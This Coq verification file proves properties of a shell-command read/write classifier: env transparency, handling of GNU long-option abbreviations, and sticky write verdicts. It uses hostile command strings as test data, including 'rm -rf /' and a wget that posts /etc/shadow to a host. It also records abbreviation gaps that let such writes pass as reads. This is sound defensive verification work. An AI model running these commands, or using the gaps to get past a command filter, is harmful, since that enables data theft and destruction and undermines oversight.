(* ===== verification/ClassifyRulesProps.v ===== *)
(** * What the argument rules guarantee

    Theorems about [envRule] and the per-command rules: the env wrapper is
    transparent, a GNU abbreviation of a dangerous long option is a write for
    every rule that lists it, and no further argument turns a write back into a
    read. *)

From S2P Require Import Prelude ClassifyScan ClassifyArgs ClassifyNet ClassifySystem ClassifyText Classify.
Import Scan Args.

(** ** env *)

Lemma allowlist_env envR : readAllowlist envR !! "env" = Some (Some envR).
Proof. reflexivity. Qed.

(** Two association lists that differ only in the value of key [k]. *)
Definition agree_but {A} (k : string) (x y : string * A) : Prop :=
  x.1 = y.1 /\ (x.1 <> k -> x.2 = y.2).

Lemma list_to_map_agree {A} (k h : string) (l l' : list (string * A)) :
  Forall2 (agree_but k) l l' -> h <> k ->
  (list_to_map l : gmap string A) !! h = (list_to_map l' : gmap string A) !! h.
Proof.
  intros Hl Hh. induction Hl as [|[k1 v1] [k2 v2] l l' [Hk Hv] _ IH]; [done|].
  cbn in *. subst k2. destruct (decide (k1 = h)) as [->|Hne].
  - rewrite !lookup_insert_eq, Hv; done.
  - by rewrite !lookup_insert_ne.
Qed.

Lemma allowlist_other envR envR' head :
  head <> "env" -> readAllowlist envR !! head = readAllowlist envR' !! head.
Proof.
  apply list_to_map_agree. unfold allowlistEntries.
  repeat (constructor; [split; [reflexivity|by intros ?]|]). constructor.
Qed.

(** The verdict on words depends on the env rule only through its arguments. *)
Lemma classifyTokens_ext envR envR' tokens :
  (forall args, List.length args < List.length tokens -> envR args = envR' args) ->
  classifyTokens envR tokens = classifyTokens envR' tokens.
Proof.
  induction tokens as [|tok rest IH]; [done|]. intros H. cbn.
  rewrite IH by (intros; apply H; cbn; lia).
  destruct (isAssignment tok); [done|]. unfold classifyHead.
  destruct (tok =s "sudo"); [done|]. destruct (decide (tok = "env")) as [->|Hne].
  - rewrite !allowlist_env. apply H. cbn. lia.
  - by rewrite (allowlist_other envR envR').
Qed.

Lemma envRule_loop_ext w w' args :
  (forall l, List.length l <= List.length args -> w l = w' l) ->
  envRule_loop w args = envRule_loop w' args.
Proof.
  induction args as [|a rest IH]; [done|]. intros H. cbn.
  rewrite IH by (intros; apply H; cbn; lia). rewrite (H (a :: rest)) by done.
  destruct rest; [done|]. by rewrite (H (_ :: _)) by (cbn; lia).
Qed.

(** Enough fuel is as good as more. *)
Lemma envRule_fuel_enough n m args :
  List.length args < n -> List.length args < m -> envRule_fuel n args = envRule_fuel m args.
Proof.
  revert m args. induction n as [|n IH]; intros [|m] args Hn Hm; try lia.
  cbn [envRule_fuel]. apply envRule_loop_ext. intros l Hl.
  apply classifyTokens_ext. intros args' Ha. apply IH; lia.
Qed.

(** The Go recursion: [envRule] calls [classifyWrapped] calls [envRule]. *)
Lemma envRule_unfold args : envRule args = envRule_loop classifyWrapped args.
Proof.
  unfold envRule at 1. cbn [envRule_fuel]. apply envRule_loop_ext. intros l Hl.
  apply classifyTokens_ext. intros args' Ha. apply envRule_fuel_enough; lia.
Qed.

(** What [env] runs: the arguments after its assignments, with a [--] before
    the command dropped. *)
Inductive env_runs : list string -> list string -> Prop :=
  | env_runs_cmd cmd args :
      is_flag cmd = false -> isAssignment cmd = false -> env_runs (cmd :: args) (cmd :: args)
  | env_runs_dashes inner : inner <> [] -> env_runs ("--" :: inner) inner
  | env_runs_assign a args inner :
      isAssignment a = true -> dangerousEnv (assignKey a) = false ->
      env_runs args inner -> env_runs (a :: args) inner.

Lemma assignment_not_flag a : isAssignment a = true -> is_flag a = false.
Proof.
  unfold is_flag. destruct a as [|c a]; [done|]. cbn [GoStr.head_is].
  destruct (c =c "-")%char eqn:E; [|done]. apply Ascii.eqb_eq in E as ->.
  unfold isAssignment. cbn. destruct (GoStr.IndexByte a "="); done.
Qed.

Lemma dash_cases a : is_flag a = false -> (a =s "--") = false.
Proof. destruct (a =s "--") eqn:E; [|done]. by apply String.eqb_eq in E as ->. Qed.

Lemma classifyTokens_env args : classifyTokens envRule ("env" :: args) = envRule args.
Proof.
  cbn [classifyTokens]. change (isAssignment "env") with false. cbn [negb].
  unfold classifyHead. by rewrite allowlist_env.
Qed.

(** The env wrapper is transparent: when [env ARGS] would run the command
    INNER, its verdict is the verdict on INNER, however deeply env is nested;
    an option of env other than [--] before that is a write. *)
Theorem env_transparent :
  (forall args inner, env_runs args inner ->
     classifyTokens envRule ("env" :: args) = classifyTokens envRule inner)
  /\ (forall assigns a rest,
        Forall (fun x => isAssignment x = true) assigns ->
        is_flag a = true -> a <> "--" ->
        classifyTokens envRule ("env" :: assigns ++ a :: rest) = KindWrite).
Proof.
  split.
  - intros args inner H. rewrite classifyTokens_env, envRule_unfold.
    induction H as [cmd args Hf Ha|inner Hne|a args inner Ha Hd _ IH].
    + cbn [envRule_loop]. by rewrite Hf, (dash_cases _ Hf), Ha.
    + cbn. by destruct inner.
    + pose proof (assignment_not_flag _ Ha) as Hf. cbn [envRule_loop].
      by rewrite Hf, (dash_cases _ Hf), Ha, Hd.
  - intros assigns a rest Hall Hf Hne. rewrite classifyTokens_env, envRule_unfold.
    apply String.eqb_neq in Hne. induction Hall as [|x l Hx _ IH]; cbn [app envRule_loop].
    + by rewrite Hf, Hne.
    + pose proof (assignment_not_flag _ Hx) as Hfx.
      rewrite Hfx, (dash_cases _ Hfx), Hx. cbn. by destruct (dangerousEnv _).
Qed.

Lemma env_transparent_witness :
  env_runs ["A=1"; "env"; "--"; "rm"; "-rf"; "/"] ["env"; "--"; "rm"; "-rf"; "/"]
  /\ classifyTokens envRule ["env"; "A=1"; "env"; "--"; "rm"; "-rf"; "/"] = KindWrite.
Proof.
  assert (env_runs ["A=1"; "env"; "--"; "rm"; "-rf"; "/"] ["env"; "--"; "rm"; "-rf"; "/"])
    as H by (apply env_runs_assign; [reflexivity..|by apply env_runs_cmd]).
  split; [exact H|]. destruct env_transparent as [Hrun _]. rewrite (Hrun _ _ H).
  vm_compute. reflexivity.
Defined.

(** ** Long-option abbreviations *)

Definition no_eq (s : string) : Prop := GoStr.IndexByte s "=" = None.

(** [arg] is the GNU spelling of a long option: [--NAME] or [--NAME=VALUE]
    with NAME a non-empty prefix of [stem]. *)
Definition abbreviates (arg stem : string) : Prop :=
  exists name, name <> "" /\ no_eq name /\ String.prefix name stem = true
    /\ (arg = "--" +:+ name \/ exists value, arg = "--" +:+ name +:+ String "=" value).

Lemma IndexByte_split s c n :
  GoStr.IndexByte s c = Some n ->
  GoStr.IndexByte (GoStr.take n s) c = None
  /\ s = GoStr.take n s +:+ String c (GoStr.drop (S n) s).
Proof.
  revert n. induction s as [|d s IH]; intros n; [done|]. cbn [GoStr.IndexByte].
  destruct (d =c c) eqn:E.
  - intros [= <-]. apply Ascii.eqb_eq in E as ->. done.
  - destruct (GoStr.IndexByte s c) as [m|]; [|done]. intros [= <-].
    destruct (IH m eq_refl) as [H1 H2]. cbn. rewrite E, H1. split; [done|].
    exact (f_equal (String d) H2).
Qed.

Lemma optionName_eq name v : no_eq name -> optionName (name +:+ String "=" v) = name.
Proof. intros H. unfold optionName. rewrite IndexByte_app by done. apply take_app. Qed.

Lemma optionName_plain name : no_eq name -> optionName name = name.
Proof. intros H. unfold optionName. by rewrite H. Qed.

Lemma optionName_no_eq body : no_eq (optionName body).
Proof.
  unfold optionName, no_eq. destruct (GoStr.IndexByte body "=") eqn:E; [|done].
  by apply IndexByte_split in E as [? _].
Qed.

Lemma long_option arg :
  GoStr.HasPrefix arg "--" = true -> arg = "--" +:+ GoStr.drop 2 arg.
Proof.
  intros [t ->]%prefix_spec. done.
Qed.

Lemma abbreviates_match arg stem opts :
  abbreviates arg stem -> In stem opts -> matchesAbbrev arg opts = true.
Proof.
  intros (name & Hne & Heq & Hpre & Harg) Hin. unfold matchesAbbrev.
  assert (GoStr.HasPrefix arg "--" = true /\ optionName (GoStr.drop 2 arg) = name) as [-> ->].
  { destruct Harg as [->|[v ->]]; (split; [by destruct name|]);
      [by apply optionName_plain|by apply optionName_eq]. }
  cbn [negb]. apply String.eqb_neq in Hne as ->. apply existsb_exists. eauto.
Qed.

Lemma matchesAbbrev_app arg o1 o2 :
  matchesAbbrev arg (o1 ++ o2) = matchesAbbrev arg o1 || matchesAbbrev arg o2.
Proof.
  unfold matchesAbbrev. destruct (negb _); [done|]. destruct (_ =s ""); [done|].
  apply existsb_app.
Qed.

(** [matchesAbbrev] decides GNU abbreviation: it accepts exactly the
    arguments that spell one of the options by a non-empty prefix of its name,
    with or without a value. *)
Theorem matchesAbbrev_iff (arg : string) (opts : list string) :
  matchesAbbrev arg opts = true <-> exists stem, In stem opts /\ abbreviates arg stem.
Proof.
  split.
  - unfold matchesAbbrev. destruct (GoStr.HasPrefix arg "--") eqn:Hp; [|done]. cbn [negb].
    destruct (optionName _ =s "") eqn:Hn; [done|]. apply String.eqb_neq in Hn.
    intros (stem & Hin & Hs)%existsb_exists. exists stem. split; [done|].
    exists (optionName (GoStr.drop 2 arg)).
    split; [done|]. split; [apply optionName_no_eq|]. split; [done|].
    pose proof (long_option arg Hp) as Ha. set (body := GoStr.drop 2 arg) in *.
    clearbody body. subst arg. unfold optionName.
    destruct (GoStr.IndexByte body "=") as [n|] eqn:E; [|by left].
    right. exists (GoStr.drop (S n) body). apply IndexByte_split in E as [_ E].
    by rewrite <- E.
  - intros (stem & Hin & Ha). by eapply abbreviates_match.
Qed.

(** ** Dangerous options are writes wherever they stand *)

(** [rule] answers write as soon as an option abbreviating [stem] is present. *)
Definition rejects (rule : argRule) (stem : string) : Prop :=
  forall arg before after,
    abbreviates arg stem -> rule (before ++ arg :: after) = KindWrite.


Lemma write_if_existsb p (before after : list string) arg :
  p arg = true -> System.write_if (existsb p (before ++ arg :: after)) = KindWrite.
Proof. intros H. rewrite existsb_app. cbn. by rewrite H, orb_true_r. Qed.


Lemma awkRule_step a rest : Text.awkRule rest = KindWrite -> Text.awkRule (a :: rest) = KindWrite.
Proof. intros H. cbn. by repeat case_match. Qed.

Lemma sortRule_step a rest : Text.sortRule rest = KindWrite -> Text.sortRule (a :: rest) = KindWrite.
Proof. intros H. cbn. by repeat case_match. Qed.

Lemma hostnameRule_step a rest :
  System.hostnameRule rest = KindWrite -> System.hostnameRule (a :: rest) = KindWrite.
Proof. intros H. cbn. by repeat case_match. Qed.

Lemma findRule_step a rest : Text.findRule rest = KindWrite -> Text.findRule (a :: rest) = KindWrite.
Proof. intros H. cbn. by repeat case_match. Qed.

Lemma curlRule_step a rest : Net.curlRule rest = KindWrite -> Net.curlRule (a :: rest) = KindWrite.
Proof. intros H. cbn. by repeat case_match. Qed.

Lemma abbreviates_flag arg stem :
  abbreviates arg stem -> exists rest, arg = String "-" (String "-" rest) /\ rest <> "".
Proof.
  intros (name & Hne & _ & _ & [->|[v ->]]); eexists; (split; [reflexivity|]); by destruct name.
Qed.

(** Every abbreviation of a dangerous long option is a write, at any
    position among the arguments and whatever the others are. *)
Theorem abbreviations_closed :
  Forall (rejects System.dmesgRule) ["clear"; "read-clear"; "console-off"; "console-on"; "console-level"]
  /\ Forall (rejects System.ssRule) ["kill"]
  /\ Forall (rejects System.lastlogRule) ["clear"; "set"]
  /\ Forall (rejects System.lessRule) ["log-file"; "LOG-FILE"]
  /\ Forall (rejects System.gitBranchKind) ["delete"; "move"; "copy"]
  /\ Forall (rejects System.gitConfigKind)
       ["set"; "unset"; "unset-all"; "add"; "replace-all"; "remove-section"; "rename-section"; "edit"]
  /\ Forall (rejects Text.sortRule) ["output"; "compress-program"]
  /\ Forall (rejects System.hostnameRule) ["file"]
  /\ Forall (rejects Text.awkRule)
       ["file"; "source"; "include"; "in-place"; "load"; "exec"; "pretty-print"; "profile";
        "dump-variables"; "debug"].
Proof.
  assert (forall p opts, (forall a, matchesAbbrev a opts = true -> p a = true) ->
    Forall (rejects (fun args => System.write_if (existsb p args))) opts) as Hexists.
  { intros p opts Hp. apply List.Forall_forall. intros stem Hin arg before after Ha.
    apply write_if_existsb, Hp. by eapply abbreviates_match. }
  assert (forall (rule : argRule) opts,
    (forall a rest, matchesAbbrev a opts = true -> is_flag a = true -> a <> "-" -> a <> "" ->
        rule (a :: rest) = KindWrite) ->
    (forall a rest, rule rest = KindWrite -> rule (a :: rest) = KindWrite) ->
    Forall (rejects rule) opts) as Hwalk.
  { intros rule opts Hhead Hstep. apply List.Forall_forall. intros stem Hin arg before after Ha.
    pose proof (abbreviates_match _ _ _ Ha Hin) as Hm.
    destruct (abbreviates_flag _ _ Ha) as (rest & -> & Hr).
    induction before as [|a before IH]; cbn; [by apply Hhead|by apply Hstep]. }
  refine (conj _ (conj _ (conj _ (conj _ (conj _ (conj _ (conj _ (conj _ _)))))))).
  all: try (apply Hexists; intros a Ha; rewrite Ha, ?orb_true_r; reflexivity).
  { apply Hexists. intros a Ha.
    change ["log-file"; "LOG-FILE"] with (["log-file"] ++ ["LOG-FILE"]) in Ha.
    rewrite matchesAbbrev_app in Ha.
    by rewrite Ha, orb_true_r. }
  all: apply Hwalk; [intros a rest Hm Hf H1 H2; cbn; rewrite Hm|first
    [exact sortRule_step|exact hostnameRule_step|exact awkRule_step]].
  - done.
  - apply String.eqb_neq in H1, H2. by rewrite H1, H2, Hf, orb_true_r.
  - by case_match.
Qed.

(** ** Nothing undoes a write *)

(** Appending arguments never turns a write into a read. *)
Definition sticky (rule : argRule) : Prop :=
  forall args more, rule args = KindWrite -> rule (args ++ more) = KindWrite.

Lemma existsb_sticky p : sticky (fun args => System.write_if (existsb p args)).
Proof.
  intros args more H. rewrite existsb_app. unfold System.write_if in *.
  by destruct (existsb p args).
Qed.

(** A rule that decides on one argument at a time. *)
Lemma walk_sticky (rule : argRule) :
  rule [] = KindRead ->
  (forall a, (forall rest, rule (a :: rest) = KindWrite)
             \/ (forall rest, rule (a :: rest) = rule rest)) ->
  sticky rule.
Proof.
  intros Hnil Hstep args more. induction args as [|a args IH]; cbn [app]; [congruence|].
  destruct (Hstep a) as [H|H]; rewrite !H; auto.
Qed.

Lemma dateRule_sticky : sticky System.dateRule.
Proof.
  intros args more. induction args as [[|a args] IH] using list_length_ind; [done|].
  cbn. destruct (_ || _); [done|]. destruct (GoStr.one_of _ _).
  - destruct args as [|b args]; [done|]. apply IH. cbn. lia.
  - destruct (_ || _); [|done]. apply IH. cbn. lia.
Qed.

Lemma uniqPositionals_app args more :
  Text.uniqPositionals args <= Text.uniqPositionals (args ++ more).
Proof.
  induction args as [[|a args] IH] using list_length_ind; cbn; [lia|].
  pose proof (IH args ltac:(cbn; lia)).
  destruct (a =s ""); [done|]. destruct (_ && _); [|lia]. destruct (GoStr.one_of _ _); [|done].
  destruct args as [|b args]; cbn in *; [lia|]. apply IH; lia.
Qed.

Lemma uniqRule_sticky : sticky Text.uniqRule.
Proof.
  intros args more. unfold Text.uniqRule. pose proof (uniqPositionals_app args more).
  destruct (2 <=? Text.uniqPositionals args) eqn:E; [|done]. bool_hyps.
  intros _. destruct (2 <=? _) eqn:E2; [done|]. bool_hyps. lia.
Qed.

Lemma count_positionals_app args more :
  System.count_positionals args <= System.count_positionals (args ++ more).
Proof. induction args as [|a args IH]; cbn; [lia|]. case_match; lia. Qed.

Lemma ifconfigRule_sticky : sticky System.ifconfigRule.
Proof.
  intros args more. unfold System.ifconfigRule, System.write_if.
  pose proof (count_positionals_app args more).
  destruct (2 <=? System.count_positionals args) eqn:E; [|done]. bool_hyps.
  intros _. destruct (2 <=? _) eqn:E2; [done|]. bool_hyps. lia.
Qed.

Lemma ipAction_app have args more :
  System.ipAction have args <> "" -> System.ipAction have (args ++ more) = System.ipAction have args.
Proof.
  revert have. induction args as [|a args IH]; intros have H; [done|]. cbn in *.
  destruct (_ || _); [by apply IH|]. destruct (have =? 1); [done|by apply IH].
Qed.

Lemma ipRule_sticky : sticky System.ipRule.
Proof.
  intros args more. unfold System.ipRule. rewrite existsb_app.
  destruct (existsb _ args); [done|]. cbn [orb].
  destruct (System.ipAction 0 args =s "") eqn:E; [done|].
  destruct (existsb _ more); [done|].
  rewrite ipAction_app by (by apply String.eqb_neq). rewrite E. done.
Qed.

Lemma operand_is_file_app rest more :
  operand_is_file rest = true -> operand_is_file (rest ++ more) = true.
Proof. by destruct rest. Qed.

Lemma curlSwitch_app a rest more :
  Net.curlSwitch a rest = true -> Net.curlSwitch a (rest ++ more) = true.
Proof.
  unfold Net.curlSwitch. destruct (GoStr.one_of a ["-X"; "--request"]); [by destruct rest|].
  repeat (case_match; [done || apply operand_is_file_app|]). done.
Qed.

Lemma curlRule_sticky : sticky Net.curlRule.
Proof.
  intros args more. induction args as [|a args IH]; [done|]. cbn.
  destruct (Net.curlSwitch a args) eqn:E1; cbn [orb].
  - by rewrite (curlSwitch_app _ _ _ E1).
  - destruct (Net.curlGlued a); [by rewrite orb_true_r|]. intros H.
    destruct (_ || _); [done|]. by apply IH.
Qed.

(** A write stays a write: for every rule that has no operand deciding its
    verdict, appending further arguments can not turn it into a read. *)
Theorem rules_sticky :
  Forall sticky
    [System.lessRule; Text.findRule; Text.awkRule; Text.sortRule; Text.uniqRule;
     System.hostnameRule; System.dateRule; System.ipRule; System.ifconfigRule;
     System.dmesgRule; System.ssRule; System.lastlogRule; System.journalctlRule;
     System.gitBranchKind; System.gitConfigKind; Net.curlRule].
Proof.
  repeat constructor; try exact (existsb_sticky _);
    auto using dateRule_sticky, uniqRule_sticky, ipRule_sticky, ifconfigRule_sticky,
      curlRule_sticky.
  all: apply walk_sticky; [done|intros a; cbn;
         repeat case_match; auto].
Qed.

(** ** Gaps the code leaves *)

(** Where a rule matches a long option by its exact text, GNU abbreviations
    of it pass: [sed --i] edits in place, and [wget] writes a file through an
    abbreviated [--output-document] after a harmless one. *)
Theorem abbreviation_gaps :
  Classify "sed --i s/a/b/ /etc/hosts" = KindRead
  /\ Classify "wget -O - --output-doc=/etc/cron.d/x http://h/" = KindRead
  /\ Classify "wget -O - --post-fil=/etc/shadow http://h/" = KindRead.
Proof. vm_compute. auto. Qed.

(** ** The scans of sed and awk programs terminate *)

(** Fuel zero leaves the empty text only. *)
Ltac no_fuel :=
  lazymatch goal with
  | H : String.length ?s <= 0 |- _ => destruct s; [done|cbn in H; lia]
  end.

Lemma sedWalk_length d s : forall seen, String.length (Text.sedWalk d seen s).1 <= String.length s.
Proof.
  induction s as [s IH] using string_length_ind. intros seen.
  destruct s as [|c s]; cbn [Text.sedWalk]; destruct (seen <? 2); try done. destruct (c =c BACKSLASH).
  - destruct s as [|e s]; [cbn; lia|]. etransitivity; [apply IH; cbn; lia|cbn; lia].
  - etransitivity; [apply IH; cbn; lia|cbn; lia].
Qed.

Lemma sedFlagRun_length s t : Text.sedFlagRun s = Some t -> String.length t <= String.length s.
Proof.
  induction s as [|c s IH]; cbn; [by intros [= <-]|].
  destruct (_ || _); [done|]. destruct (_ || _).
  - intros H%IH. lia.
  - intros [= <-]. done.
Qed.

Lemma sedSCommand_enough n m s :
  String.length s <= n -> String.length s <= m ->
  Text.sedSCommand_loop n s = Text.sedSCommand_loop m s.
Proof.
  revert m s. induction n as [|n IH]; intros [|m] s Hn Hm; try no_fuel.
  - destruct s as [|c [|d body]]; [done|done|]. cbn in Hn, Hm. cbn [Text.sedSCommand_loop].
    destruct (negb _); [apply IH; cbn; lia|]. destruct (Text.sedNotDelimiter d); [apply IH; cbn; lia|].
    pose proof (sedWalk_length d body 0) as Hw. destruct (Text.sedWalk d 0 body) as [tail seen].
    cbn in Hw. destruct (Text.sedFlagRun tail) as [tail'|] eqn:Ef; [|done].
    apply sedFlagRun_length in Ef. destruct (seen <? 2); [done|]. apply IH; lia.
Qed.

Lemma awkSkipString_length s : String.length (Text.awkSkipString s) <= String.length s.
Proof.
  induction s as [s IH] using string_length_ind. destruct s as [|c s]; cbn; [done|].
  destruct (c =c BACKSLASH).
  - destruct s as [|d s]; cbn; [lia|]. etransitivity; [apply IH; cbn; lia|lia].
  - destruct (c =c DQUOTE); [lia|]. etransitivity; [apply IH; cbn; lia|lia].
Qed.

Lemma awkPrintStmt_length fuel : forall depth prev s p t,
  Text.awkPrintStmtRedirects fuel depth prev s = Some (p, t) ->
  String.length t <= String.length s.
Proof.
  induction fuel as [|fuel IH]; intros depth prev s p t; cbn; [by intros [= _ <-]|].
  destruct s as [|c s]; [by intros [= _ <-]|]. pose proof (awkSkipString_length s).
  repeat case_match; try (by intros [= _ <-]; cbn; lia); intros Ht%IH; cbn in *; lia.
Qed.

Lemma awkPrintStmt_enough n : forall m depth prev s,
  String.length s <= n -> String.length s <= m ->
  Text.awkPrintStmtRedirects n depth prev s = Text.awkPrintStmtRedirects m depth prev s.
Proof.
  induction n as [|n IH]; intros [|m] depth prev s Hn Hm; try no_fuel.
  destruct s as [|c s]; [done|]. cbn [Text.awkPrintStmtRedirects]. cbn in Hn, Hm.
  pose proof (awkSkipString_length s).
  repeat case_match; try done; apply IH; lia.
Qed.

Lemma drop_length n s : String.length (GoStr.drop n s) <= String.length s.
Proof. revert s. induction n as [|n IH]; intros [|c s]; cbn; try lia. specialize (IH s). lia. Qed.

Lemma awkPrint_enough n : forall m prev s,
  String.length s <= n -> String.length s <= m ->
  Text.awkPrintRedirect_loop n prev s = Text.awkPrintRedirect_loop m prev s.
Proof.
  induction n as [|n IH]; intros [|m] prev s Hn Hm; try no_fuel.
  destruct s as [|c s]; [done|]. cbn [Text.awkPrintRedirect_loop]. cbn in Hn, Hm.
  pose proof (awkSkipString_length s).
  destruct (c =c DQUOTE); [apply IH; lia|].
  set (kw := if Text.awkWordAt prev _ "printf" then 6 else _).
  destruct (kw =? 0) eqn:Ek; [apply IH; lia|].
  assert (String.length (GoStr.drop kw (String c s)) <= String.length s) as Hd
    by (destruct kw as [|kw]; [done|exact (drop_length kw s)]).
  destruct (Text.awkPrintStmtRedirects _ _ _ _) as [[p t]|] eqn:Es; [|done].
  apply awkPrintStmt_length in Es. apply IH; lia.
Qed.

(** The scans of sed and awk programs end: the program's length bounds
    their steps, and any larger bound gives the same verdict. *)
Theorem program_scans_terminate (prog : string) (fuel : nat)
    (Hfuel : String.length prog <= fuel) :
  Text.sedSCommand_loop fuel prog = Text.sedSCommandExecsOrWrites prog
  /\ Text.awkPrintRedirect_loop fuel None prog = Text.awkProgHasPrintRedirect prog
  /\ (forall depth prev, Text.awkPrintStmtRedirects fuel depth prev prog
                         = Text.awkPrintStmtRedirects (String.length prog) depth prev prog).
Proof.
  split; [by apply sedSCommand_enough|]. split; [by apply awkPrint_enough|].
  intros depth prev. by apply awkPrintStmt_enough.
Qed.

Lemma program_scans_terminate_witness :
  String.length "s/a/b/e" <= 20
  /\ Text.sedSCommand_loop 20 "s/a/b/e" = true.
Proof.
  split; [cbn; lia|].
  destruct (program_scans_terminate "s/a/b/e" 20) as (H & _ & _); [cbn; lia|].
  rewrite H. vm_compute. reflexivity.
Defined.
